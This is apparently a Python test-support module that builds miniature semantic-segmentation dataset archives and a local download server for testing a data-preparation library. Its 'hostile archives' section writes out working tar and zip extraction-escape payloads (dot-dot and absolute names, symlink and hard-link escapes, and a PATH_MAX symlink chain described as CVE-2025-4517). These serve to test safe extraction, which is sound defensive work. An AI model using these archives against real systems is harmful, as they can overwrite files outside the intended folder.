"""Miniature archives in each dataset's official format (real folder and file names, real label encodings) and a
local HTTP server with Range support that serves them under their real URLs' paths.

Every builder returns a :class:`Mini` with the archive bytes keyed by the URL they are served at (or by file
name for archives that are placed by hand), the raw label arrays it wrote and the split sizes it contains.
The expected train ids are written out by hand in the tests, not derived from the code under test.
"""

from __future__ import annotations

import hashlib
import http.server
import io
import tarfile
import threading
import urllib.parse
import zipfile
from dataclasses import dataclass, field, replace
from pathlib import Path

import cv2
import numpy as np
from PIL import Image
from scipy.io import savemat

from mcibi.data.specs import SSSEG_MIRROR, DatasetSpec

H, W = 5, 7  # every miniature image is 5 x 7 pixels


@dataclass
class Mini:
    """One miniature dataset."""

    served: dict[str, bytes] = field(default_factory=dict)  # URL -> bytes
    manual: dict[str, bytes] = field(default_factory=dict)  # archive name -> bytes (placed by hand)
    raw: dict[str, np.ndarray] = field(default_factory=dict)  # prepared id -> raw label as written
    splits: dict[str, int] = field(default_factory=dict)


# --------------------------------------------------------------------------------------------------- encodings
def jpg(seed: int, h: int = H, w: int = W) -> bytes:
    img = np.random.default_rng(seed).integers(0, 255, (h, w, 3), dtype=np.uint8)
    return cv2.imencode(".jpg", img)[1].tobytes()


def png_rgb(seed: int) -> bytes:
    img = np.random.default_rng(seed).integers(0, 255, (H, W, 3), dtype=np.uint8)
    return cv2.imencode(".png", img)[1].tobytes()


def png_gray(label: np.ndarray) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(label.astype(np.uint8)).save(buf, format="PNG")  # mode "L"
    return buf.getvalue()


def voc_palette() -> list[int]:
    """The VOC colour map (bit-interleaved), 256 RGB entries."""
    pal = []
    for i in range(256):
        r = g = b = 0
        c = i
        for j in range(8):
            r |= ((c >> 0) & 1) << (7 - j)
            g |= ((c >> 1) & 1) << (7 - j)
            b |= ((c >> 2) & 1) << (7 - j)
            c >>= 3
        pal += [r, g, b]
    return pal


def png_palette(label: np.ndarray) -> bytes:
    im = Image.new("P", (label.shape[1], label.shape[0]))
    im.putdata(label.astype(np.uint8).ravel().tolist())
    im.putpalette(voc_palette())
    buf = io.BytesIO()
    im.save(buf, format="PNG")
    return buf.getvalue()


def mat(**arrays) -> bytes:
    buf = io.BytesIO()
    savemat(buf, arrays)
    return buf.getvalue()


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in sorted(members.items()):
            zf.writestr(name, data)
    return buf.getvalue()


def tar_bytes(members: dict[str, bytes], gz: bool = False) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w") as tar:
        for name, data in sorted(members.items()):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def lines(ids) -> bytes:
    return ("\n".join(ids) + "\n").encode()


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def label(seed: int, values: list[int], h: int = H, w: int = W) -> np.ndarray:
    """A label map that contains every value of ``values`` (first pixels) and random picks elsewhere."""
    rng = np.random.default_rng(seed)
    flat = rng.choice(np.array(values), h * w)
    flat[: len(values)] = values
    return flat.reshape(h, w)


def with_checksums(spec: DatasetSpec, sha: dict[str, str | None]) -> DatasetSpec:
    """The spec with the miniature archives' sha256 recorded instead of the real archives' checksums."""
    sources = tuple(
        replace(s, archives=tuple(replace(a, sha256=sha.get(a.name), sha1=None, md5=None, size=None)
                                  for a in s.archives))
        for s in spec.sources
    )
    return replace(spec, sources=sources)


# -------------------------------------------------------------------------------------------------- builders
def build_lip() -> Mini:
    """Official TrainVal zips (annotation zip nested in a zip) and the mirror's LIP.tar.gz."""
    m = Mini(splits={"train": 3, "val": 2})
    ids = {"train": ["77_471474", "100034_483681", "10005_205677"], "val": ["100034_1234", "36_454991"]}
    imgs, anns, mirror = {}, {}, {}
    for s, split in enumerate(ids):
        for k, i in enumerate(ids[split]):
            lab = label(10 * s + k, list(range(20)) if k == 0 else [0, 14, 15, 16, 17, 18, 19])
            m.raw[i] = lab
            imgs[f"TrainVal_images/{split}_images/{i}.jpg"] = jpg(10 * s + k)
            anns[f"TrainVal_parsing_annotations/{split}_segmentations/{i}.png"] = png_gray(lab)
            mirror[f"LIP/{split}_images/{i}.jpg"] = imgs[f"TrainVal_images/{split}_images/{i}.jpg"]
            mirror[f"LIP/{split}_segmentations/{i}.png"] = png_gray(lab)
        imgs[f"TrainVal_images/{split}_id.txt"] = lines(ids[split])
        mirror[f"LIP/{split}_id.txt"] = lines(ids[split])
    m.manual["TrainVal_images.zip"] = zip_bytes(imgs)
    inner = zip_bytes(anns)
    m.manual["TrainVal_parsing_annotations.zip"] = zip_bytes(
        {"TrainVal_parsing_annotations/TrainVal_parsing_annotations.zip": inner,
         "TrainVal_parsing_annotations/README_parsing.md": b"LIP parsing annotations\n"})
    m.served[SSSEG_MIRROR + "LIP.tar.gz"] = tar_bytes(mirror, gz=True)
    return m


def build_ade20k() -> Mini:
    m = Mini(splits={"train": 3, "val": 2})
    members = {"ADEChallengeData2016/objectInfo150.txt": b"Idx\tRatio\tTrain\tVal\tName\n",
               "ADEChallengeData2016/sceneCategories.txt": b"ADE_train_00000001 airport_terminal\n"}
    for split, folder, prefix, n in (("train", "training", "ADE_train_", 3), ("val", "validation", "ADE_val_", 2)):
        for k in range(1, n + 1):
            i = f"{prefix}{k:08d}"
            lab = label(k + (0 if split == "train" else 50), [0, 1, 2, 150, 149, 75])
            m.raw[i] = lab
            members[f"ADEChallengeData2016/images/{folder}/{i}.jpg"] = jpg(k + 100 * len(split))
            members[f"ADEChallengeData2016/annotations/{folder}/{i}.png"] = png_gray(lab)
    m.served["http://data.csail.mit.edu/places/ADEchallenge/ADEChallengeData2016.zip"] = zip_bytes(members)
    return m


def build_cityscapes() -> Mini:
    """The two official packages (served behind a login at file-handling/?packageID=1 and 3)."""
    m = Mini(splits={"train": 2, "val": 1, "trainval": 3, "test": 1})
    gt, left = {"license.txt": b"Cityscapes licence\n"}, {"license.txt": b"Cityscapes licence\n"}
    frames = {"train": [("aachen", "aachen_000000_000019"), ("bochum", "bochum_000000_000313")],
              "val": [("frankfurt", "frankfurt_000000_000294")], "test": [("berlin", "berlin_000000_000019")]}
    for split, items in frames.items():
        for k, (city, base) in enumerate(items):
            lab = label(k + 7 * len(split), [0, 1, 6, 7, 8, 11, 23, 24, 26, 33, 29, 30, 31, 255])
            if split == "test":
                lab = label(k, [0, 1, 2, 3])  # test labels are not public: placeholders
            m.raw[f"{city}/{base}"] = lab
            left[f"leftImg8bit/{split}/{city}/{base}_leftImg8bit.png"] = png_rgb(k + 3 * len(split))
            gt[f"gtFine/{split}/{city}/{base}_gtFine_labelIds.png"] = png_gray(lab)
            gt[f"gtFine/{split}/{city}/{base}_gtFine_color.png"] = png_rgb(99)
            gt[f"gtFine/{split}/{city}/{base}_gtFine_polygons.json"] = b"{}"
    m.served["cityscapes:1"] = zip_bytes(gt)
    m.served["cityscapes:3"] = zip_bytes(left)
    m.manual["gtFine_trainvaltest.zip"] = m.served["cityscapes:1"]
    m.manual["leftImg8bit_trainvaltest.zip"] = m.served["cityscapes:3"]
    return m


def build_cocostuff10k() -> Mini:
    """Official zip (top level images/, annotations/*.mat with S, imageLists/) and the mirror's tar.gz."""
    m = Mini(splits={"train": 2, "test": 1})
    ids = {"train": ["COCO_train2014_000000000077", "COCO_train2014_000000000078"],
           "test": ["COCO_train2014_000000000081"]}
    members = {}
    for s, split in enumerate(ids):
        for k, i in enumerate(ids[split]):
            lab = label(k + 5 * s, [0, 1, 2, 91, 92, 182, 181, 100])
            m.raw[i] = lab
            members[f"images/{i}.jpg"] = jpg(k + 5 * s)
            members[f"annotations/{i}.mat"] = mat(S=lab.astype(np.uint16), names=np.array(["person"], dtype=object))
        members[f"imageLists/{split}.txt"] = lines(ids[split])
    members["imageLists/all.txt"] = lines(ids["train"] + ids["test"])
    url = "http://calvin.inf.ed.ac.uk/wp-content/uploads/data/cocostuffdataset/cocostuff-10k-v1.1.zip"
    m.served[url] = zip_bytes(members)
    m.served[SSSEG_MIRROR + "COCOStuff10k.tar.gz"] = tar_bytes({f"COCOStuff10k/{k}": v for k, v in members.items()},
                                                               gz=True)
    return m


def build_vspw() -> Mini:
    """VSPW_480p.zip, served only by the mirror as 10 volumes (the official Drive link answers with a page)."""
    m = Mini(splits={"train": 2, "val": 1})
    videos = {"train": ["127_-hIVCYO4C90", "1001_5z_S8mcj-rM"], "val": ["1002_zKUBRwvL6vA"]}
    members = {"VSPW_480p/label_num_dic_final.json": b'{"others": 0, "wall": 1}'}
    for split, vids in videos.items():
        members[f"VSPW_480p/{split}.txt"] = lines(vids)
        for v, video in enumerate(vids):
            for f in range(2):
                frame = f"{f * 5 + 1:08d}"
                lab = label(v * 3 + f, [0, 1, 2, 124, 123, 253, 254, 255])
                m.raw[f"{video}/{frame}"] = lab
                members[f"VSPW_480p/data/{video}/origin/{frame}.jpg"] = jpg(v * 3 + f)
                members[f"VSPW_480p/data/{video}/mask/{frame}.png"] = png_palette(lab)
    members["VSPW_480p/test.txt"] = lines(["999_test_video"])
    data = zip_bytes(members)
    step = -(-len(data) // 10)
    for k in range(10):
        m.served[f"{SSSEG_MIRROR}VSPW_480p.zip.{k + 1:03d}"] = data[k * step:(k + 1) * step]
    m.manual["VSPW_480p.zip"] = data
    return m


VOC_TRAIN, VOC_VAL = ["2007_000032", "2007_000039"], ["2007_000033"]
SBD_TRAIN, SBD_VAL = ["2007_000039", "2008_000002", "2007_000033"], ["2008_000003"]


def build_pascalvoc() -> Mini:
    """VOCtrainval_11-May-2012.tar (palette PNGs) + SBD benchmark.tgz (GTcls .mat)."""
    m = Mini(splits={"trainaug": 4, "train": 2, "val": 1})
    voc, sbd = {}, {}
    for k, i in enumerate(VOC_TRAIN + VOC_VAL):
        lab = label(k, [0, 1, 15, 20, 255, 7])
        m.raw[i] = lab
        voc[f"VOCdevkit/VOC2012/SegmentationClass/{i}.png"] = png_palette(lab)
        voc[f"VOCdevkit/VOC2012/SegmentationObject/{i}.png"] = png_palette(np.zeros((H, W)))
    for k, i in enumerate(VOC_TRAIN + VOC_VAL + ["2008_000002", "2008_000003", "2008_000004"]):
        voc[f"VOCdevkit/VOC2012/JPEGImages/{i}.jpg"] = jpg(k)
    voc["VOCdevkit/VOC2012/ImageSets/Segmentation/train.txt"] = lines(VOC_TRAIN)
    voc["VOCdevkit/VOC2012/ImageSets/Segmentation/val.txt"] = lines(VOC_VAL)
    voc["VOCdevkit/VOC2012/ImageSets/Segmentation/trainval.txt"] = lines(VOC_TRAIN + VOC_VAL)
    for k, i in enumerate(sorted(set(SBD_TRAIN + SBD_VAL))):
        lab = label(20 + k, [0, 3, 20, 12])
        if i not in m.raw:
            m.raw[i] = lab
        gt = {"Segmentation": lab.astype(np.uint8), "Boundaries": np.zeros((1, 1)), "CategoriesPresent": np.array([3])}
        sbd[f"benchmark_RELEASE/dataset/cls/{i}.mat"] = mat(GTcls=gt)
        sbd[f"benchmark_RELEASE/dataset/img/{i}.jpg"] = jpg(k)
    sbd["benchmark_RELEASE/dataset/train.txt"] = lines(SBD_TRAIN)
    sbd["benchmark_RELEASE/dataset/val.txt"] = lines(SBD_VAL)
    m.served["http://host.robots.ox.ac.uk/pascal/VOC/voc2012/VOCtrainval_11-May-2012.tar"] = tar_bytes(voc)
    # only the second SBD host serves the file: the first answers 404
    m.served["https://www2.eecs.berkeley.edu/Research/Projects/CS/vision/grouping/semantic_contours/benchmark.tgz"] = (
        tar_bytes(sbd, gz=True))
    return m


def build_pascalcontext() -> Mini:
    """VOCtrainval_03-May-2010.tar + Mottaghi et al. trainval.tar.gz (459-class LabelMap .mat)."""
    m = Mini(splits={"train": 2, "val": 1})
    ids = {"train": ["2008_000002", "2008_000003"], "val": ["2008_000007"]}
    voc, ann = {}, {}
    for s, split in enumerate(ids):
        voc[f"VOCdevkit/VOC2010/ImageSets/Main/{split}.txt"] = lines(ids[split])
        for k, i in enumerate(ids[split]):
            lab = label(k + 3 * s, [0, 1, 2, 458, 284, 9, 459, 100])
            m.raw[i] = lab
            voc[f"VOCdevkit/VOC2010/JPEGImages/{i}.jpg"] = jpg(k + 3 * s)
            ann[f"trainval/{i}.mat"] = mat(LabelMap=lab.astype(np.uint16))
    voc["VOCdevkit/VOC2010/ImageSets/Main/trainval.txt"] = lines(ids["train"] + ids["val"])
    ann["labels.txt"] = b"1: accordion\n2: aeroplane\n"
    m.served["http://host.robots.ox.ac.uk/pascal/VOC/voc2010/VOCtrainval_03-May-2010.tar"] = tar_bytes(voc)
    m.served["https://cs.stanford.edu/~roozbeh/pascal-context/trainval.tar.gz"] = tar_bytes(ann, gz=True)
    return m


def build_mirror_layouts() -> dict[str, Mini]:
    """The sssegmentation mirror's repackaging: VOCdevkit.zip (3 volumes) with trainaug.txt and index PNGs in
    SegmentationClassAug, and PascalContext.tar.gz with already converted SegmentationClassContext PNGs."""
    voc = Mini(splits={"trainaug": 3, "train": 1, "val": 1})
    members = {}
    for k, i in enumerate(["2007_000032", "2007_000033", "2008_000002", "2008_000003"]):
        lab = label(40 + k, [0, 5, 20, 255])
        voc.raw[i] = lab
        members[f"VOCdevkit/VOC2012/JPEGImages/{i}.jpg"] = jpg(k)
        members[f"VOCdevkit/VOC2012/SegmentationClassAug/{i}.png"] = png_gray(lab)
    members["VOCdevkit/VOC2012/ImageSets/Segmentation/train.txt"] = lines(["2007_000032"])
    members["VOCdevkit/VOC2012/ImageSets/Segmentation/val.txt"] = lines(["2007_000033"])
    members["VOCdevkit/VOC2012/ImageSets/Segmentation/trainaug.txt"] = lines(
        ["2007_000032", "2008_000002", "2008_000003"])
    data = zip_bytes(members)
    step = -(-len(data) // 3)
    for k in range(3):
        voc.served[f"{SSSEG_MIRROR}VOCdevkit.zip.{k + 1:03d}"] = data[k * step:(k + 1) * step]
    voc.manual["VOCdevkit.zip"] = data
    ctx = Mini(splits={"train": 1, "val": 1})
    members = {}
    for k, (split, i) in enumerate((("train", "2008_000002"), ("val", "2008_000007"))):
        lab = label(50 + k, [0, 1, 59, 37])
        ctx.raw[i] = lab
        members[f"VOCdevkit/VOC2010/JPEGImages/{i}.jpg"] = jpg(k)
        members[f"VOCdevkit/VOC2010/SegmentationClassContext/{i}.png"] = png_gray(lab)
        members[f"VOCdevkit/VOC2010/ImageSets/SegmentationContext/{split}.txt"] = lines([i])
        members[f"VOCdevkit/VOC2010/ImageSets/Main/{split}.txt"] = lines([i])
    ctx.served[SSSEG_MIRROR + "PascalContext.tar.gz"] = tar_bytes(members, gz=True)
    return {"pascalvoc": voc, "pascalcontext": ctx}


BUILDERS = {"lip": build_lip, "ade20k": build_ade20k, "cityscapes": build_cityscapes,
            "cocostuff10k": build_cocostuff10k, "vspw": build_vspw, "pascalvoc": build_pascalvoc,
            "pascalcontext": build_pascalcontext}


# ------------------------------------------------------------------------------------------- hostile archives
TAR_ESCAPES = ("symlink_chain_beyond_path_max", "dotdot_name", "absolute_name", "symlink_then_write_through",
               "hardlink_to_outside")
ZIP_ESCAPES = ("zip_dotdot_name", "zip_absolute_name", "zip_symlink_entry")
SENTINEL = "sentinel.txt"  # in the ``outside`` folder: each attack tries to overwrite it and to add written.txt


def _up(outside: Path) -> str:
    """A relative name that climbs to / from any folder less than 40 deep, then goes down to ``outside``."""
    return "../" * 40 + str(outside).lstrip("/")


def _tar_add(tar: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = "") -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def _chain(tar: tarfile.TarFile, outside: Path, dest: Path) -> None:
    """The CVE-2025-4517 pattern: 16 nested folders with one-letter symlinks to them, sized so that the folders
    fit under PATH_MAX (4096) below ``dest`` while their full path plus one 254-character name does not. Python's
    realpath (used by tarfile's ``data`` filter on unpatched 3.8-3.13) stops resolving there and goes on lexically,
    so 'escape', which the kernel follows through the chain and 17 levels up to /, looks as if it stayed inside;
    then a hard link through it overwrites the sentinel and a file is written through it."""
    steps = "abcdefghijklmnop"
    comp = "d" * ((4096 - len(str(dest)) - 100) // len(steps) - 1)
    path = ""
    for step in steps:
        _tar_add(tar, f"{path}{comp}", tarfile.DIRTYPE)
        _tar_add(tar, f"{path}{step}", tarfile.SYMTYPE, link=comp)
        path += comp + "/"
    deep = "/".join(steps) + "/" + "l" * 254
    _tar_add(tar, deep, tarfile.SYMTYPE, link="/".join([".."] * len(steps)))
    _tar_add(tar, "escape", tarfile.SYMTYPE, link=deep + "/.." * (len(steps) + 1) + str(outside))
    _tar_add(tar, "sentinel_link", tarfile.LNKTYPE, link=f"escape/{SENTINEL}")
    _tar_add(tar, "sentinel_link", data=b"overwritten\n")
    _tar_add(tar, "escape/written.txt", data=b"written outside\n")


def hostile_tar(legit: bytes, attack: str, outside: Path, dest: Path) -> bytes:
    """The members of the tar(.gz) ``legit`` followed by ``attack`` (one of TAR_ESCAPES), aimed at ``outside``
    when the archive is extracted into ``dest``; gzip-compressed."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(legit)) as src, tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for member in src:
            tar.addfile(member, src.extractfile(member) if member.isreg() else None)
        if attack == "symlink_chain_beyond_path_max":
            _chain(tar, outside, dest)
        elif attack == "dotdot_name":
            _tar_add(tar, f"LIP/{_up(outside)}/{SENTINEL}", data=b"overwritten\n")
            _tar_add(tar, f"LIP/{_up(outside)}/written.txt", data=b"written outside\n")
        elif attack == "absolute_name":
            _tar_add(tar, str(outside / SENTINEL), data=b"overwritten\n")
            _tar_add(tar, str(outside / "written.txt"), data=b"written outside\n")
        elif attack == "symlink_then_write_through":
            _tar_add(tar, "LIP/out", tarfile.SYMTYPE, link=_up(outside))
            _tar_add(tar, f"LIP/out/{SENTINEL}", data=b"overwritten\n")
            _tar_add(tar, "LIP/out/written.txt", data=b"written outside\n")
        elif attack == "hardlink_to_outside":
            _tar_add(tar, "LIP/hl", tarfile.LNKTYPE, link=f"{_up(outside)}/{SENTINEL}")
            _tar_add(tar, "LIP/hl", data=b"overwritten\n")
        else:
            raise ValueError(attack)
    return buf.getvalue()


def hostile_zip(legit: bytes, attack: str, outside: Path) -> bytes:
    """The members of the zip ``legit`` followed by ``attack`` (one of ZIP_ESCAPES), aimed at ``outside``."""
    import stat

    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(legit)) as src, zipfile.ZipFile(buf, "w") as zf:
        for info in src.infolist():
            zf.writestr(info, src.read(info))
        if attack == "zip_dotdot_name":
            zf.writestr(f"TrainVal_images/{_up(outside)}/{SENTINEL}", b"overwritten\n")
            zf.writestr(f"TrainVal_images/{_up(outside)}/written.txt", b"written outside\n")
        elif attack == "zip_absolute_name":
            zf.writestr(zipfile.ZipInfo(str(outside / SENTINEL)), b"overwritten\n")
            zf.writestr(zipfile.ZipInfo(str(outside / "written.txt")), b"written outside\n")
        elif attack == "zip_symlink_entry":  # what `unzip` turns into a symlink pointing out
            link = zipfile.ZipInfo("TrainVal_images/out")
            link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            zf.writestr(link, str(outside).encode())
        else:
            raise ValueError(attack)
    return buf.getvalue()


# ------------------------------------------------------------------------------------------------ HTTP server
def local_path(url: str) -> str:
    """Where the local server serves a real URL: /<host>/<path>."""
    u = urllib.parse.urlsplit(url)
    return f"/{u.netloc}{u.path}"


class Server:
    """A ThreadingHTTPServer on 127.0.0.1 serving bytes by path, with Range support and fault injection."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.truncate_once: set[str] = set()  # first full GET of these paths sends half the body and hangs up
        self.html: set[str] = set()  # these paths answer with a web page (Drive quota/confirmation)
        self.no_range: set[str] = set()  # these paths ignore Range headers (always 200 with the whole file)
        self.packages: dict[int, bytes] = {}  # CityScapes packageID -> bytes
        self.credentials = ("alice", "secret")
        self.log: list[tuple[str, str, str | None]] = []  # (method, path, Range header)
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):  # quiet
                pass

            def do_POST(self):
                n = int(self.headers.get("Content-Length", 0))
                form = urllib.parse.parse_qs(self.rfile.read(n).decode())
                server.log.append(("POST", self.path, None))
                if self.path.endswith("/login") and (form.get("username", [""])[0], form.get("password", [""])[0]
                                                      ) == server.credentials:
                    self.send_response(302)
                    self.send_header("Location", "/")
                    self.send_header("Set-Cookie", "session=granted; Path=/")
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                else:
                    self._send(200, b"<html>login</html>", "text/html")

            def _send(self, code: int, body: bytes, ctype: str = "application/octet-stream", extra=None):
                self.send_response(code)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                for k, v in (extra or {}).items():
                    self.send_header(k, v)
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                u = urllib.parse.urlsplit(self.path)
                rng = self.headers.get("Range")
                server.log.append(("GET", self.path, rng))
                data = server.files.get(u.path)
                if u.path.endswith("/login"):
                    return self._send(200, b"<html>login</html>", "text/html")
                if u.path.endswith(("/file-handling/", "/md5-sum/")):
                    if "session=granted" not in (self.headers.get("Cookie") or ""):
                        return self._send(200, b"<html>please log in</html>", "text/html")
                    data = server.packages.get(int(urllib.parse.parse_qs(u.query)["packageID"][0]))
                    if u.path.endswith("/md5-sum/") and data is not None:
                        return self._send(200, f"{hashlib.md5(data).hexdigest()}  file.zip\n".encode(), "text/plain")
                if u.path in server.html:
                    return self._send(200, b"<html>Google Drive - quota exceeded</html>", "text/html; charset=utf-8")
                if data is None:
                    return self._send(404, b"not found", "text/plain")
                if rng and u.path not in server.no_range:
                    start = int(rng.split("=")[1].split("-")[0])
                    if start >= len(data):
                        return self._send(416, b"", "text/plain", {"Content-Range": f"bytes */{len(data)}"})
                    body = data[start:]
                    return self._send(206, body, extra={"Content-Range": f"bytes {start}-{len(data) - 1}/{len(data)}"})
                if u.path in server.truncate_once:
                    server.truncate_once.discard(u.path)
                    self.send_response(200)
                    self.send_header("Content-Type", "application/octet-stream")
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    self.wfile.write(data[: len(data) // 2])
                    self.wfile.flush()
                    self.close_connection = True
                    return
                return self._send(200, data)

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def start(self) -> Server:
        self.thread.start()
        return self

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(5)

    def url_map(self, url: str) -> str:
        u = urllib.parse.urlsplit(url)
        query = f"?{u.query}" if u.query else ""
        return f"http://127.0.0.1:{self.port}/{u.netloc}{u.path}{query}"

    def serve(self, mini: Mini) -> None:
        for url, data in mini.served.items():
            if url.startswith("cityscapes:"):
                self.packages[int(url.split(":")[1])] = data
            else:
                self.files[local_path(url)] = data

    def requests_for(self, suffix: str) -> list[tuple[str, str, str | None]]:
        return [r for r in self.log if r[1].split("?")[0].endswith(suffix)]


def place(folder: Path, files: dict[str, bytes]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)


# ------------------------------------------------------------------------------------------------- throughput
def bench_prepare(repeats: int = 5, workers: int = 2) -> None:
    """Print the preparation throughput on each miniature archive (archive check + extraction + conversion).

    Run: ``.venv/bin/python tests/support/miniature_datasets.py``
    """
    import logging
    import tempfile
    import time

    from mcibi.data.lookup import get_spec
    from mcibi.data.prepare import prepare

    logging.disable(logging.WARNING)
    for name, build in sorted(BUILDERS.items()):
        m = build()
        if name in ("lip", "cityscapes", "vspw"):
            files = dict(m.manual)
        else:
            files = {u.rsplit("/", 1)[-1]: d for u, d in m.served.items() if "modelstore" not in u}
        spec = with_checksums(get_spec(name), {k: sha256(v) for k, v in files.items()})
        with tempfile.TemporaryDirectory() as tmp:
            place(Path(tmp) / "dl", files)
            best = float("inf")
            for _ in range(repeats):
                start = time.perf_counter()
                prepare(spec, Path(tmp) / "dl", Path(tmp) / "out", workers=workers)
                best = min(best, time.perf_counter() - start)
        print(f"{name:14s} {len(m.raw):2d} images  best of {repeats}: {best * 1000:5.1f} ms  "
              f"{len(m.raw) / best:6.0f} images/s")



def mini_spec(dataset: str, mini, checksummed: bool = True):
    """The real spec with the miniature archives' sha256 recorded (none: the archive has no published checksum)."""
    from mcibi.data.lookup import get_spec

    shas = {}
    for url, data in list(mini.served.items()) + list(mini.manual.items()):
        name = url.rsplit("/", 1)[-1].split("?")[0]
        if url.startswith("cityscapes:"):
            name = {"cityscapes:1": "gtFine_trainvaltest.zip", "cityscapes:3": "leftImg8bit_trainvaltest.zip"}[url]
        if name[-4:-3] == "." and name[-3:].isdigit():
            continue  # a mirror volume: the checksum is the joined file's (in manual)
        shas[name] = sha256(data) if checksummed else None
    return with_checksums(get_spec(dataset), shas)


if __name__ == "__main__":
    bench_prepare()
